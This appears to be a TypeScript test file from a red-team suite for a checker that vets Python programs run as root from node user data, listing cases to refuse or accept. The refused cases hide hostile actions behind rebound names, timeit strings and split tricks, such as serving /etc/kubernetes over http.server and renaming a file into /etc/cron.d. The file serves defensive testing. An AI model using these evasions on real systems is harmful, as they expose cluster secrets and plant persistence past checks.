    // str rebound: `str = Path` makes str.replace pathlib's rename-over (Python docs "Path.replace(target)").
    dev(
        "tune.py: str = Path; list(map(str.replace, [Path('/var/lib/ops/c')], [Path('/etc/cron.d/ops')]))",
        tune(
            "dev-py75f-str-rebound-replace-nodes",
            [
                "from pathlib import Path",
                "str = Path",
                'print(list(map(str.replace, [Path("/var/lib/ops/c")], [Path("/etc/cron.d/ops")])))',
            ],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: import shlex as sh; sh.split = lambda s: [server argv]; subprocess.run(sh.split('sysctl ...'))",
        tune("dev-py75f-shlex-alias-split-rebound-nodes", [
            "import shlex as sh, subprocess",
            'sh.split = lambda s: ["python3", "-m", "http.server", "8001", "-d", "/etc/kubernetes"]',
            'subprocess.run(sh.split("sysctl -w vm.swappiness=10"))',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: from shlex import split; for split in [lambda s: [server argv]]: subprocess.run(split('sysctl ...'))",
        tune("dev-py75f-split-for-rebound-nodes", [
            "import subprocess",
            "from shlex import split",
            'for split in [lambda s: ["python3", "-m", "http.server", "8001", "-d", "/etc/kubernetes"]]:',
            '    subprocess.run(split("sysctl -w vm.swappiness=10"))',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run('python3 -m http.server 8001'.split(' ')) (a server by a literal's split(' '))",
        tune("dev-py75f-split-space-server-nodes", [
            "import subprocess",
            'subprocess.run("python3 -m http.server 8001".split(" "), cwd="/etc/kubernetes")',
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: subprocess.run(('crontab /var/lib/ops/c').split()) (a parenthesised literal)",
        tune(
            "dev-py75f-paren-literal-crontab-nodes",
            ["import subprocess", 'subprocess.run(("crontab /var/lib/ops/c").split())'],
            CRONFILE,
        ),
        REFUSED,
    ),
    dev(
        "tune.py: from timeit import timeit; timeit('import os; os.system(server)', number=1) (a string stmt)",
        tune("dev-py75f-from-timeit-string-nodes", [
            "from timeit import timeit",
            `timeit('import os; os.system("${SERVE}")', number=1)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: from timeit import timeit as t; t(lambda: 0, setup='import os; os.system(server)', number=1)",
        tune("dev-py75f-from-timeit-alias-setup-nodes", [
            "from timeit import timeit as t",
            `t(lambda: 0, setup='import os; os.system("${SERVE}")', number=1)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: from timeit import timeit; f = timeit; f('import os; os.system(server)') (the import handed on)",
        tune("dev-py75f-from-timeit-handed-on-nodes", [
            "from timeit import timeit",
            "f = timeit",
            `f('import os; os.system("${SERVE}")', number=1)`,
        ]),
        REFUSED,
    ),
    dev(
        "tune.py: timeit.timeit(lambda: 0, number=len(__import__('os').popen(server).read())) (a count that is a call)",
        tune("dev-py75f-timeit-number-call-nodes", [
            "import timeit",
            `print(timeit.timeit(lambda: 0, number=len(__import__("os").popen("${SERVE}").read())))`,
        ]),
        REFUSED,
    ),
    // ===== DECIDED (round 75): fail closed, moved from the secure side =====
    // Was a MISS (secure, over-refusal; ruled DECIDED in round 75, below): Python docs "builtins" (builtins.open is the
    // builtin open); map(o, [path]) opens for reading (mode 'r'). Refused "runs code the pack does not read": a `from
    // builtins import` is read as dynamic (pythonDynamic). Fix if wanted: `from builtins import open [as X]` resolves X
    // to open like io.open.
    // DECIDED (round 75): fail closed because `from builtins import X` reaches the builtins module, the one module
    // whose attributes are every bare name (Python docs "builtins": "direct access to all built-in identifiers"); the
    // pack reads it as dynamic (pythonDynamic) rather than resolving each item, and reading `open as o` alone would
    // need every other builtins item (exec, __import__, setattr) kept dynamic by name: a plain `open` does the same.
    dev(
        "tune.py: from builtins import open as o; list(map(o, ['/etc/os-release']))",
        tune("dev-py75r-map-builtins-open-alias-nodes", [
            "from builtins import open as o",
            'print([f.read() for f in map(o, ["/etc/os-release"])])',
        ]),
        REFUSED,
    ),
    // Was a MISS (secure, over-refusal; ruled DECIDED in round 75, below): Python docs "timeit" (stmt may be "a callable that
    // takes no arguments"): work is the file's own def, read where it stands. pythonTimeitOfCallables accepts lambdas
    // only. Fix if wanted: a name bound only by a `def` in the same file is as read as a lambda.
    // DECIDED (round 75): fail closed because a def's name is a variable the program may rebind or hand on before the
    // call (Python reference "Naming and binding"), and timeit calls whatever object the name holds then: the pack
    // accepts only a lambda written in the call (its body read where it stands); `timeit.timeit(lambda: work(), ...)`
    // is the accepted form.
    dev(
        "tune.py: def work(): return sum(range(10)); timeit.timeit(work, number=1) (a named function)",
        tune("dev-py75r-timeit-def-nodes", [
            "import timeit",
            "def work():",
            "    return sum(range(10))",
            "print(timeit.timeit(work, number=1))",
        ]),
        REFUSED,
    ),
    // Was a MISS (secure, over-refusal; ruled DECIDED in round 75, below): Python docs "timeit.Timer(stmt='pass', setup='pass',
    // timer=<timer function>, globals=None)" (stmt may be a callable): a Timer of a lambda runs the lambda only.
    // pythonTimeitOfCallables (pythonCode.ts) accepts timeit.timeit/repeat only: refused "runs code the pack does not
    // read". Fix if wanted: timeit.Timer(LAMBDA[, LAMBDA]) with no timer/globals, then .timeit/.repeat/.autorange.
    // DECIDED (round 75): fail closed because a Timer object is a value the program may keep and hand on (Python docs
    // "timeit.Timer": stmt and setup strings are compiled, timer is any callable; .timeit/.repeat/.autorange run them
    // later): the pack reads only the timeit.timeit/repeat calls whose arguments it sees at once; use
    // `timeit.timeit(lambda: ..., number=N)`.
    dev(
        "tune.py: timeit.Timer(lambda: sum(range(10))).timeit(1) (a Timer of a lambda)",
        tune("dev-py75r-timer-lambda-nodes", [
            "import timeit",
            "print(timeit.Timer(lambda: sum(range(10))).timeit(1))",
        ]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // A directory merely named python3 outside any sys.path entry (Python docs "The initialization of the sys.path
    // module search path": script dir, PYTHONPATH, prefix/lib/pythonX.Y, site-packages) shadows nothing.
    // Was a MISS (fixed in round 75) (secure, over-refusal): Python docs "The initialization of the sys.path module search path": sys.path is the
    // script's directory, PYTHONPATH, prefix/lib/pythonX.Y (+ lib-dynload) and site-packages; /var/cache/ops/python3 is
    // none of them, so the stdlib json is imported. pythonLibraryWritten (pythonCode.ts) matches any written path with a
    // `/python\d.../json...` component anywhere: refused "imports json, a module user data did not write". Fix: anchor the
    // shadow regex to library prefixes (/usr{,/local}/lib{,64}/pythonX.Y[/site-packages|/dist-packages|/lib-dynload],
    // /root/.local/lib/pythonX.Y/site-packages, a venv's lib/pythonX.Y/site-packages the program runs).
    dev(
        "user data: writes /var/cache/ops/python3/json.cache (a cache, not a library dir); tune.py imports json",
        tune(
            "dev-py75r-python-named-cache-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/var/cache/ops/python3/json.cache", ["{}"]),
        ),
    ),
    dev(
        "user data: writes /usr/share/doc/python3.9/json-notes.txt; tune.py imports json",
        tune(
            "dev-py75r-python-doc-notes-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/usr/share/doc/python3.9/json-notes.txt", ["notes"]),
        ),
    ),
    dev(
        "user data: pip3 install PyJWT==2.8.0 (capitalised); tune.py imports jwt",
        tune(
            "dev-py75r-pyjwt-caps-nodes",
            ["import jwt", 'print(jwt.encode({"a": 1}, "k"))'],
            ["pip3 install PyJWT==2.8.0"],
        ),
    ),
    dev(
        "user data: python3 -m pip install pyjwt tenacity; tune.py imports jwt, tenacity",
        tune(
            "dev-py75r-pyjwt-module-pip-nodes",
            ["import jwt, tenacity", 'print(jwt.encode({"a": 1}, "k"), tenacity.__name__)'],
            ["python3 -m pip install pyjwt tenacity"],
        ),
    ),
    // Python reference "Method objects": str.replace taken from the class is a plain function of strings.
    // Was a MISS (fixed in round 75) (secure, over-refusal): Python docs "str.replace(old, new)" returns a copy of a string; str.replace taken from
    // the class (Python reference "Method objects") touches no file. The round-75 bound-method scan in pythonWriteRefusal
    // (pythonCode.ts) exempts `.replace` only on a string LITERAL receiver: refused "a file-writing method used as a
    // value". Fix: also exempt receivers `str`/`bytes`/`bytearray` (the builtin types when not rebound).
    dev(
        "tune.py: list(map(str.replace, ['a-b'], ['-'], ['_'])) (str's replace, no file)",
        tune("dev-py75r-str-replace-value-nodes", ['print(list(map(str.replace, ["a-b"], ["-"], ["_"])))']),
    ),
    dev(
        "tune.py: sorted(paths, key=Path.stat) / map(Path.read_text, [Path('/etc/os-release')])",
        tune("dev-py75r-path-read-methods-nodes", [
            "from pathlib import Path",
            'print(list(map(Path.read_text, [Path("/etc/os-release")])))',
        ]),
    ),
    dev(
        "tune.py: class C: def r(self): w = open; return w('/etc/os-release').read() (a method's local alias)",
        tune("dev-py75r-class-method-local-open-nodes", [
            "class C:",
            "    def r(self):",
            "        w = open",
            '        return w("/etc/os-release").read()',
            "print(C().r())",
        ]),
    ),
    dev(
        "tune.py: class C: mode = 'r'; open('/etc/os-release', C.mode) (no callable in the class)",
        tune("dev-py75r-class-mode-attr-nodes", [
            "class C:",
            '    path = "/etc/os-release"',
            "print(open(C.path).read())",
        ]),
    ),
    dev(
        "tune.py: for f in map(open, sorted(glob.glob('/etc/sysctl.d/*.conf'))): print(f.read())",
        tune("dev-py75r-map-open-glob-nodes", [
            "import glob",
            'for f in map(open, sorted(glob.glob("/etc/sysctl.d/*.conf"))):',
            "    print(f.read())",
        ]),
    ),
    dev(
        "tune.py: subprocess.run(['crontab', '-r']) / ['atq'] (remove root's crontab, list at jobs)",
        tune("dev-py75r-crontab-remove-atq-nodes", [
            "import subprocess",
            'subprocess.run(["crontab", "-r"])',
            'subprocess.run(["atq"])',
        ]),
    ),
    // Was a MISS (fixed in round 75) (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "str.split(sep)": with sep=' ' the
    // plain words split identically (no runs of blanks here). pythonLiteralSplit (pythonCode.ts) takes only `.split()`:
    // the argv is unknown, refused. Fix if wanted: accept `.split(" ")` when the literal has single spaces only.
    dev(
        "tune.py: subprocess.run('sysctl -w vm.swappiness=10'.split(' '))",
        tune("dev-py75r-split-space-sysctl-nodes", [
            "import subprocess",
            'subprocess.run("sysctl -w vm.swappiness=10".split(" "))',
        ]),
    ),
    dev(
        "tune.py: from shlex import split; subprocess.run(split('sysctl -w vm.swappiness=10'))",
        tune("dev-py75r-from-shlex-split-sysctl-nodes", [
            "import subprocess",
            "from shlex import split",
            'subprocess.run(split("sysctl -w vm.swappiness=10"))',
        ]),
    ),
    dev(
        "tune.py: subprocess.run(shlex.split('sysctl -w vm.swappiness=10'), check=True)",
        tune("dev-py75r-shlex-split-check-nodes", [
            "import shlex, subprocess",
            'subprocess.run(shlex.split("sysctl -w vm.swappiness=10"), check=True)',
        ]),
    ),
    // Was a MISS (fixed in round 75) (secure, over-refusal): Python docs "timeit.timeit(stmt=..., number=1000000)" (stmt "can also be a callable";
    // `from timeit import timeit` binds the same function): the lambda sums a range. pythonTimeitOfCallables accepts the
    // call, but the `from timeit import timeit` import itself is in fromImported, which pythonDynamic tests against
    // PYTHON_DYNAMIC_NAMES before any call is read: refused "runs code the pack does not read". Also `number=1_000` is
    // fine (the regex allows `_`). Fix: do not count a from-import of timeit.timeit/repeat as dynamic when every use of
    // the bound name is a call pythonTimeitOfCallables accepts.
    dev(
        "tune.py: from timeit import timeit; timeit(lambda: sum(range(10)), number=1_000)",
        tune("dev-py75r-from-timeit-lambda-nodes", [
            "from timeit import timeit",
            "print(timeit(lambda: sum(range(10)), number=1_000))",
        ]),
    ),
    // Was a MISS (fixed in round 75) (secure, over-refusal; fail closed, lead may rule DECIDED): Python docs "timeit" (number is an int count):
    // number=N runs no code. pythonTimeitOfCallables (pythonCode.ts) allows only digit literals for number/repeat.
    // Fix if wanted: any expression pythonDynamic does not itself flag is as safe as a literal for number/repeat.
    dev(
        "tune.py: timeit.timeit(stmt=lambda: sum(range(10)), number=N) where N = 100 (a name)",
        tune("dev-py75r-timeit-number-name-nodes", [
            "import timeit",
            "N = 100",
            "print(timeit.timeit(stmt=lambda: sum(range(10)), number=N))",
        ]),
    ),
    // ===== batch 2 (secure) =====
    // Was a MISS (fixed in round 75) (secure, over-refusal; fail closed, lead may rule DECIDED): Python reference "Parenthesized forms" (a
    // parenthesised expression is the expression): ("sysctl ...").split() is the literal's split. pythonLiteralSplit
    // (pythonCode.ts) requires the literal to start the argument: refused (argv unknown). Fix if wanted: strip
    // redundant parentheses around the literal.
    dev(
        "tune.py: subprocess.run(('sysctl -w vm.swappiness=10').split()) (a parenthesised literal)",
        tune("dev-py75r-paren-literal-split-nodes", [
            "import subprocess",
            'subprocess.run(("sysctl -w vm.swappiness=10").split())',
        ]),
    ),
    dev(
        "user data: pip3 install pyjwt; tune.py: from jwt import encode; encode({'a': 1}, 'k')",
        tune(
            "dev-py75r-pyjwt-from-import-nodes",
            ["from jwt import encode", 'print(encode({"a": 1}, "k"))'],
            ["pip3 install pyjwt"],
        ),
    ),
    // ===== round 75 fixer: secure neighbours of the fixes =====
    dev(
        "user data: writes /var/lib/ops/python3.9/json.json (a python-named data dir, no lib/pythonX.Y); tune.py imports json",
        tune(
            "dev-py75f-python-named-data-nodes",
            ["import json", 'print(json.dumps({"a": 1}))'],
            heredocFile("/var/lib/ops/python3.9/json.json", ["{}"]),
        ),
    ),
    // The pack reads a module file user data wrote whole on PYTHONPATH (pythonModuleFile): harmless code.
    dev(
        "user data: PYTHONPATH=/var/lib/ops with a written helper jwt.py (read); tune.py imports jwt",
        devNodeScript("dev-py75f-pythonpath-written-module-nodes", [
            "mkdir -p /var/lib/ops",
            ...heredocFile("/var/lib/ops/jwt.py", ["def encode(data, key):", '    return "x"']),
            ...heredocFile("/opt/ops/tune.py", ["import jwt", 'print(jwt.encode({"a": 1}, "k"))']),
            "PYTHONPATH=/var/lib/ops python3 /opt/ops/tune.py",
        ]),
    ),
    dev(
        "tune.py: getattr(Path('/etc/os-release'), 'read_text')() (a read method by its name)",
        tune("dev-py75f-getattr-read-text-nodes", [
            "from pathlib import Path",
            'print(getattr(Path("/etc/os-release"), "read_text")())',
        ]),
    ),
    dev(
        "tune.py: r = (Path('/etc/os-release')\\n .read_text); print(r()) (a read method across a line break)",
        tune("dev-py75f-read-text-linebreak-nodes", [
            "from pathlib import Path",
            'r = (Path("/etc/os-release")',
            "     .read_text)",
            "print(r())",
        ]),
    ),
    dev(
        "tune.py: list(map(bytes.replace, [b'a-b'], [b'-'], [b'_'])) (bytes' replace, no file)",
        tune("dev-py75f-bytes-replace-value-nodes", ['print(list(map(bytes.replace, [b"a-b"], [b"-"], [b"_"])))']),
    ),
    dev(
        "tune.py: for p in sorted(glob.glob(...)): print([f.read() for f in map(open, [p])]) (map not rebound)",
        tune("dev-py75f-map-open-loop-var-nodes", [
            "import glob",
            'for p in sorted(glob.glob("/etc/sysctl.d/*.conf")):',
            "    print([f.read() for f in map(open, [p])])",
        ]),
    ),
    dev(
        "tune.py: from timeit import timeit as t; print(t(lambda: sum(range(10)), number=10))",
        tune("dev-py75f-from-timeit-alias-lambda-nodes", [
            "from timeit import timeit as t",
            "print(t(lambda: sum(range(10)), number=10))",
        ]),
    ),
    dev(
        "tune.py: subprocess.run(('sysctl -w vm.swappiness=10').split(' ')) (parenthesised, single spaces)",
        tune("dev-py75f-paren-split-space-nodes", [
            "import subprocess",
            'subprocess.run(("sysctl -w vm.swappiness=10").split(" "))',
        ]),
    ),
];

describeNodeCases("red team 75: node user data, root Python programs (neighbours of round 75)", insecure, secure);
